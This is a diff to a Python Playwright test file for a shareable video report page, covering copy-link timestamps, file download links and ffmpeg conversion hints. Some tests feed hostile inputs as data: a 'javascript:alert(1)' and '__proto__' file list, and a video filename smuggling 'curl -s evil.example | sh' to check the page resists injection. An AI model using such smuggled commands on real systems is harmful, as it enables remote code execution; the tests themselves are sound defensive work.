@@ -160,10 +160,31 @@ def test_the_video_continues_when_its_signed_url_expires(site: SharedSite, open_
 def test_the_link_can_be_copied(site: SharedSite, open_page: OpenPage) -> None:
     page = open_page(share_report(site), permissions=["clipboard-read", "clipboard-write"])
 
-    page.get_by_role("button", name="Copy link").click()
+    page.get_by_role("button", name="Copy link at 0:00").click()
 
     page.get_by_role("button", name="Copied").wait_for()
-    wait_for_clipboard(page, site.url)
+    wait_for_clipboard(page, f"{site.url}?t=0")
+
+
+def test_the_files_behind_a_link_can_be_saved(site: SharedSite, open_page: OpenPage) -> None:
+    site.moment = "&files=results.json,coco.json,javascript:alert(1),__proto__&t=0"
+    (site.folder / "coco.json").write_text('{"images": []}')
+    page = open_page(share_report(site))
+    expect(page.locator("#downloads a")).to_have_text(["COCO", "JSON"])
+
+    with page.expect_download() as saved:
+        page.get_by_role("link", name="COCO").click()
+
+    assert saved.value.path().read_text() == '{"images": []}'
+    expect(page.locator("#title")).to_be_visible()
+
+
+def test_a_local_report_offers_the_files_beside_the_results(open_report: OpenReport, tmp_path: Path) -> None:
+    (tmp_path / "coco.json").write_text("{}")
+    report = open_report(make_results([make_element([])] * 50))
+    links = report.page.locator("#downloads a")
+    expect(links).to_have_text(["COCO", "JSON"])
+    assert [link.get_attribute("href") for link in links.all()] == ["./coco.json", "./results.json"]
 
 
 @pytest.mark.parametrize("fragment", ["", "#base=https://elsewhere.example/s/token"])
@@ -219,7 +240,7 @@ def test_a_video_that_browsers_do_not_play_is_reported_with_a_command(open_repor
     video = tmp_path / "belt 1.avi"
     video.write_bytes(make_video(VideoSpec(format="avi", codec="mpeg4")))
 
-    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 5, frame_rate=24), video=video)
+    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 12, frame_rate=24), video=video)
 
     report.page.locator("#curtain").wait_for()
     expect(report.page.locator("#curtain-text")).to_contain_text("ffmpeg -i './belt 1.avi' './belt 1.mp4'")
@@ -229,7 +250,7 @@ def test_no_name_adds_a_command_to_the_page(open_report: OpenReport, tmp_path: P
     video = tmp_path / "belt'; curl -s evil.example | sh; '\u202e.mkv"
     video.write_bytes(make_video(VideoSpec(format="matroska", codec="mpeg4")))
 
-    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 5, frame_rate=24), video=video)
+    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 12, frame_rate=24), video=video)
 
     report.page.locator("#curtain").wait_for()
     expect(report.page.locator("#curtain-text")).to_contain_text("ffmpeg -i ./VIDEO ./VIDEO.mp4, and choose that")
